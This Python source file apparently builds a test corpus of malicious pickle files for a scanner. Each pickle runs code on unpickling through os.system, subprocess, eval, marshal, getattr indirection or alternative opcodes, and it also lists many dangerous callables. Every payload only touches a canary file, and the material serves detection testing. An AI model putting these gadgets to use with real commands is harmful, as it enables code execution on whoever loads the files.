"""Pickles that run a program in whoever unpickles them: written as instructions, so that nothing is imported here."""

import marshal
from collections.abc import Callable
from pathlib import Path

from hostile_kinds import Family
from hostile_opcodes import Code, call, encode, name

GADGETS = Family("gadget")
LIVE: dict[str, Callable[[Path], bytes]] = {}
"""Those that Python's own unpickler is shown to run, on any machine, by their name."""


def whole(code: Code) -> bytes:
    """A pickle file of one value."""
    return b"\x80\x03" + code + b"."


def enter(called: str, make: Callable[[Path], Code], says: str = "", live: bool = False) -> None:
    """A gadget under the name of the function that gives it away; `make` is given the canary's path."""
    GADGETS.file(called, "000.pkl", lambda scene: whole(make(scene.canary)), _names(called), says or called)
    if live:
        LIVE[called] = lambda canary: whole(make(canary))


def _names(called: str) -> bytes:
    module, _, attribute = called.split(" ")[0].rpartition(".")
    return f"c{module}\n{attribute}\n".encode()


def python(canary: Path) -> str:
    """A line of Python that leaves the canary."""
    return f"open({str(canary)!r}, 'w').close()"


def shell(canary: Path) -> str:
    return f"touch '{canary}'"


def attribute(module: str, called: str) -> Code:
    """A function by way of getattr, as gadgets that dodge a list of names do."""
    return call("builtins.getattr", call("importlib.import_module", module), called)


def compiled(canary: Path) -> Code:
    """A code object out of its bytes."""
    return call("marshal.loads", marshal.dumps(compile(python(canary), "gadget", "exec")))


SHELLS = ("os.system", "posix.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput")
LISTS = (
    "subprocess.Popen",
    "subprocess.call",
    "subprocess.run",
    "subprocess.check_output",
    "pty.spawn",
    "os.posix_spawn",
)
for _name in SHELLS:
    enter(_name, lambda c, n=_name: call(n, shell(c)), live=True)
for _name in LISTS:
    enter(_name, lambda c, n=_name: call(n, ["touch", str(c)]), live=_name.startswith("subprocess"))
for _name in ("builtins.eval", "builtins.exec", "__builtin__.eval", "cProfile.run", "profile.run"):
    enter(_name, lambda c, n=_name: call(n, python(c)), live=_name not in ("profile.run", "__builtin__.eval"))
for _name in ("pdb.run", "bdb.Bdb.run", "trace.Trace.run", "doctest.debug_script", "code.interact"):
    enter(_name, lambda c, n=_name: call(n, python(c)))
for _name in ("numpy.testing._private.utils.runstring", "numpy.testing.runstring"):
    enter(_name, lambda c, n=_name: call(n, python(c), {}), live=_name == "numpy.testing._private.utils.runstring")
for _name in (
    "numpy.f2py.crackfortran.myeval",
    "numpy.f2py.diagnose.run_command",
    "numpy.distutils.exec_command.exec_command",
    "numpy.load",
    "numpy.fromfile",
    "numpy.memmap",
    "numpy.ctypeslib.load_library",
    "torch.load",
    "torch.hub.load",
    "torch.jit.load",
    "torch.package.PackageImporter",
    "torch.utils.cpp_extension.load_inline",
    "torch.storage._load_from_bytes",
    "torch._utils._rebuild_tensor_v2",
    "joblib.load",
    "dill._dill._create_function",
    "cloudpickle.cloudpickle._make_function",
    "pandas.read_pickle",
    "shelve.open",
    "pickle.loads",
    "_pickle.loads",
    "marshal.load",
    "yaml.unsafe_load",
    "runpy.run_path",
    "runpy._run_code",
    "imp.load_source",
    "pkgutil.resolve_name",
    "pip.main",
    "idlelib.pyshell.ModifiedInterpreter.runcommand",
    "webbrowser.open",
    "antigravity.geohash",
    "ctypes.CDLL",
    "ctypes.util.find_library",
    "socket.create_connection",
    "urllib.request.urlopen",
    "http.client.HTTPConnection",
    "ftplib.FTP",
    "shutil.rmtree",
    "shutil.move",
    "os.remove",
    "os.execv",
    "os.fork",
    "signal.raise_signal",
    "sys.exit",
    "tempfile.mkstemp",
    "multiprocessing.reduction._rebuild_socket",
    "logging.config.listen",
    "asyncio.create_subprocess_shell",
    "_io.FileIO",
):
    enter(_name, lambda c, n=_name: call(n, str(c)))
enter("timeit.timeit", lambda c: call("timeit.timeit", python(c), "pass", name("time.time"), 1), live=True)
enter("pathlib.Path.write_text", lambda c: call("pathlib.Path.write_text", call("pathlib.PosixPath", str(c)), ""))
enter("builtins.open", lambda c: call("builtins.open", str(c), "w"), live=True)
enter("io.open", lambda c: call("io.open", str(c), "w"), live=True)
enter("builtins.__import__", lambda c: call("builtins.__import__", "antigravity"))
enter(
    "builtins.compile",
    lambda c: call("builtins.exec", call("builtins.compile", python(c), "x", "exec")),
    "builtins",
    True,
)
enter("builtins.getattr", lambda c: call(attribute("os", "system"), shell(c)), live=True)
enter(
    "importlib.import_module", lambda c: call(attribute("subprocess", "getoutput"), shell(c)), "builtins.getattr", True
)
enter(
    "operator.attrgetter",
    lambda c: call(call(call("operator.attrgetter", "system"), call("importlib.import_module", "os")), shell(c)),
    live=True,
)
enter(
    "operator.methodcaller",
    lambda c: call(call("operator.methodcaller", "touch"), call("pathlib.PosixPath", str(c))),
    live=True,
)
enter("functools.partial", lambda c: call(call("functools.partial", name("os.system"), shell(c))), live=True)
enter("functools.reduce", lambda c: call("functools.reduce", name("os.popen"), [shell(c), "r"]), live=True)
enter(
    "builtins.map", lambda c: call("builtins.list", call("builtins.map", name("os.system"), [shell(c)])), "list", True
)
enter(
    "itertools.starmap",
    lambda c: call("_collections.deque", call("itertools.starmap", name("os.system"), [(shell(c),)])),
    "_collections.deque",
    True,
)
enter(
    "types.FunctionType", lambda c: call(call("types.FunctionType", compiled(c), call("builtins.globals"))), live=True
)
enter("types.CodeType", lambda c: call("types.CodeType", 0, 0, 0, 0, 0, 0, b"", (), (), (), "", "", "", 0, b"", b""))
enter("marshal.loads", lambda c: call("builtins.exec", compiled(c)), "builtins.exec", True)
enter(
    "codecs.decode", lambda c: call("builtins.eval", call("codecs.decode", python(c).encode(), "ascii")), "eval", True
)
enter(
    "copyreg._reconstructor", lambda c: call("copyreg._reconstructor", name("os._wrap_close"), name("os.system"), None)
)
enter("copyreg.__newobj__", lambda c: call("copyreg.__newobj__", name("subprocess.Popen"), ["touch", str(c)]))
enter(
    "numpy.core.multiarray._reconstruct with a gadget for a class",
    lambda c: call("numpy.core.multiarray._reconstruct", call("os.system", shell(c)), (0,), b"b"),
    "os.system",
    True,
)
enter(
    "numpy.ndarray with a state that is called",
    lambda c: Code(call("numpy.ndarray", (0,)) + encode((call("os.system", shell(c)),)) + b"b"),
    "os.system",
    True,
)
enter("numpy.dtype of a gadget", lambda c: call("numpy.dtype", call("builtins.eval", python(c))), "builtins.eval", True)
enter(
    "_codecs.encode by a coding of its own",
    lambda c: call("_codecs.encode", call("os.system", shell(c)), "x"),
    "os.system",
    True,
)


def _copied(instructions: Callable[[Path], bytes], called: str, says: str, holds: bytes) -> None:
    """A gadget by another instruction than REDUCE."""
    GADGETS.file(called, "000.pkl", lambda scene: instructions(scene.canary), holds, says)
    LIVE[called] = instructions


_copied(lambda c: b"(" + encode(shell(c)) + b"ios\nsystem\n.", "the instruction INST", "INST", b"ios\nsystem\n")
_copied(lambda c: b"(" + name("os.system") + encode(shell(c)) + b"o.", "the instruction OBJ", "os.system", b"o.")
_copied(
    lambda c: b"\x80\x02" + name("subprocess.Popen") + encode((["touch", str(c)],)) + b"\x81.",
    "the instruction NEWOBJ without init",
    "subprocess.Popen",
    b"\x81.",
)
LIVE.pop("the instruction NEWOBJ without init")  # it makes an object, and runs what its class does then
_copied(
    lambda c: b"\x80\x04" + encode("os") + encode("system") + b"\x93" + encode((shell(c),)) + b"R.",
    "the instruction STACK_GLOBAL",
    "os.system",
    b"\x93",
)
_copied(lambda c: b"\x80\x02" + call("os.system", shell(c)) + b"0N.", "called and thrown away", "os.system", b"R0N.")
_copied(
    lambda c: b"\x80\x02" + name("os.system") + b"q\x000h\x00" + encode((shell(c),)) + b"R.",
    "called out of the memo",
    "os.system",
    b"h\x00",
)
